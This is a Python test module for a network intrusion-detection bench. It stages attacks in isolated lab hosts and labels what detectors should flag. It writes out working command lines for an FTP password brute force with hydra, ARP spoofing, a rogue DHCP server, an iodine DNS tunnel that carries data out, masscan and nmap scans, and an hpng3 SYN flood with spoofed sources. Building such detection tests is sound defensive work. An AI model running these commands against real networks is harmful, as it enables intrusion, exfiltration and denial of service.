"""Tools that want a stage of their own: several hosts, a service that gives in, other traffic beside."""

import random
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path
from subprocess import Popen
from typing import Final, TypeAlias

from bench.detection.ordinary import hour
from bench.detection.packets import file_of
from tests.support.attacks import is_listening
from tests.support.local_attacks import lease_beside, spoof_arp
from tests.support.local_watch import need
from tests.support.netns import INTERFACE, Host, Lan
from tests.support.waiting import eventually_sync

Play: TypeAlias = Callable[[Lan, Path], float]
"""Does what is to be done; returns when the attack began, Unix seconds."""

_FTP: Final = """
import socketserver, time
class Talk(socketserver.StreamRequestHandler):
    def handle(self):
        failed = 0  # each takes a second, and after three the connection ends, as vsftpd has it
        self.wfile.write(b"220 ready\\r\\n")
        for line in self.rfile:
            word = line.split()
            if word[:1] == [b"USER"]: answer = b"331 password?"
            elif word[:1] == [b"PASS"]: answer = b"230 come in" if word[1:] == [b"secret80"] else b"530 no"
            elif word[:1] == [b"QUIT"]: answer = b"221 bye"
            else: answer = b"200 " + b"-" * 60
            if answer[:3] == b"530":
                failed += 1
                time.sleep(1)
            self.wfile.write(answer + b"\\r\\n")
            if failed == 3: return
class Server(socketserver.ThreadingTCPServer): allow_reuse_address = daemon_threads = True
Server(("0.0.0.0", 21), Talk).serve_forever()
"""
_SESSION: Final = """
import socket, sys
with socket.create_connection((sys.argv[1], 21)) as one:
    lines = one.makefile("rwb")
    lines.readline()
    for command in ["USER root", "PASS secret80", *["NOOP %d" % number for number in range(400)], "QUIT"]:
        lines.write(command.encode() + b"\\r\\n"); lines.flush(); lines.readline()
"""


@dataclass(frozen=True, slots=True)
class Encounter:
    """Something that happens in a network of these hosts."""

    name: str
    expected: tuple[str, ...]
    hosts: tuple[str, ...]
    play: Play
    beside: tuple[str, ...] = ()


def _guesses(net: Lan, folder: Path) -> float:
    """Guess an FTP password, the right one at the end, and use it."""
    need("hydra")
    words = folder / "words"
    words.write_text("\n".join(f"secret{number}" for number in range(81)), encoding="ascii")
    server, attacker = net["server"], net["attacker"]
    with server.popen(sys.executable, "-c", _FTP, log=folder / "ftp.log"):
        eventually_sync(lambda: is_listening(server, 21))
        began = time.time()
        argv = ["hydra", "-I", "-f", "-l", "root", "-P", str(words), "-t", "4", server.ipv4, "ftp"]
        said = attacker.run(*argv, timeout_s=60, check=False).stdout
        if "secret80" not in said:
            raise RuntimeError(said)
        attacker.run(sys.executable, "-c", _SESSION, server.ipv4)
    return began


def _iodine(net: Lan, folder: Path) -> float:
    """Carry octets out through a resolver."""
    need("iodine", "iodined", "dnsmasq")
    client, resolver, outside = net["client"], net["resolver"], net["outside"]
    forward = ["dnsmasq", "-d", "-C", "/dev/null", "-R", "-h", "--cache-size=0", "--pid-file"]
    forward += [f"--server=/tunnel.example/{outside.ipv4}"]
    serve = ["iodined", "-f", "-c", "-P", "tunnel", "10.99.0.1", "t.tunnel.example"]
    dig = ["iodine", "-f", "-r", "-P", "tunnel", resolver.ipv4, "t.tunnel.example"]
    logs = {name: folder / f"{name}.log" for name in ("dnsmasq", "iodined", "iodine")}
    with resolver.popen(*forward, log=logs["dnsmasq"]), outside.popen(*serve, log=logs["iodined"]):
        eventually_sync(lambda: "started" in logs["dnsmasq"].read_text())
        eventually_sync(lambda: "Listening to dns" in logs["iodined"].read_text())
        began = time.time()
        with client.popen(*dig, log=logs["iodine"]):
            eventually_sync(lambda: "Connection setup complete" in logs["iodine"].read_text(), within_s=40)
            _carry(client, outside)
    return began


def _carry(client: Host, outside: Host) -> None:
    with (
        client.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock,
        outside.socket(socket.AF_INET, socket.SOCK_DGRAM) as far,
    ):
        far.bind(("10.99.0.1", 7))
        far.settimeout(10)
        octets = random.Random(3)
        for _ in range(20):
            sock.sendto(octets.randbytes(400), ("10.99.0.1", 7))
            far.recv(4096)


def _masscan(net: Lan, _: Path) -> float:
    need("masscan")
    server, attacker = net["server"], net["attacker"]
    began = time.time()
    attacker.run(
        *("masscan", server.ipv4, "-p1-2000", "--rate", "300", "--wait", "2", "-e", INTERFACE),
        *("--router-mac", server.mac, "--adapter-ip", attacker.ipv4),
        timeout_s=60,
    )
    return began


@contextmanager
def _ordinary(host: Host, folder: Path) -> Iterator[Popen[bytes]]:
    """Replay the first minute of the ordinary hour while the block lasts."""
    need("tcpreplay")
    path = folder / "ordinary.pcap"
    with path.open("wb") as out:
        out.writelines(file_of(hour(2, 60)))
    argv = ["tcpreplay", "-q", "-i", INTERFACE, "--pps=1500", "--limit=60000", str(path)]
    with host.popen(*argv, log=folder / "tcpreplay.log") as process:
        yield process


def _beside(*argv: str) -> Play:
    """Attack while tcpreplay sends ordinary traffic. No words: only that traffic."""

    def play(net: Lan, folder: Path) -> float:
        with _ordinary(net["other"], folder) as process:
            if not argv:
                process.wait(90)
                return time.time() - 60
            time.sleep(5)
            began = time.time()
            with ExitStack() as stack:
                stack.callback(process.wait, 90)
                net["attacker"].run(*argv, net["server"].ipv4, timeout_s=60, check=False)
            return began

    return play


_PAIR: Final = ("server", "attacker")
_THREE: Final = (*_PAIR, "other")
_NMAP: Final = ("nmap", "-n", "-Pn")
_UDP: Final = (*_NMAP, "-sU", "-F", "--host-timeout", "20s", "--max-retries", "0")
_HPING: Final = ("hping3", "-q", "-c", "6000", "-i", "u1000", "-S", "-p", "80", "--rand-source")
ENCOUNTERS: Final = (
    Encounter("hydra, FTP, right at the end", ("brute_force",), _PAIR, _guesses),
    Encounter("arpspoof", ("arp_spoofing",), ("gateway", "victim", "attacker"), spoof_arp),
    Encounter("dnsmasq beside dnsmasq", ("rogue_dhcp",), ("server", "rogue", "client"), lease_beside),
    Encounter("iodine through a resolver", ("dns_tunnel",), ("client", "resolver", "outside"), _iodine),
    Encounter("masscan, 300 ports/s", ("port_scan",), _PAIR, _masscan),
    Encounter("tcpreplay of ordinary traffic", (), _THREE, _beside()),
    Encounter("nmap -sS beside tcpreplay", ("port_scan",), _THREE, _beside(*_NMAP, "-sS")),
    Encounter("nmap -sU beside tcpreplay", ("udp_scan",), _THREE, _beside(*_UDP)),
    Encounter("hping3 -S beside tcpreplay", ("syn_flood",), _THREE, _beside(*_HPING)),
)
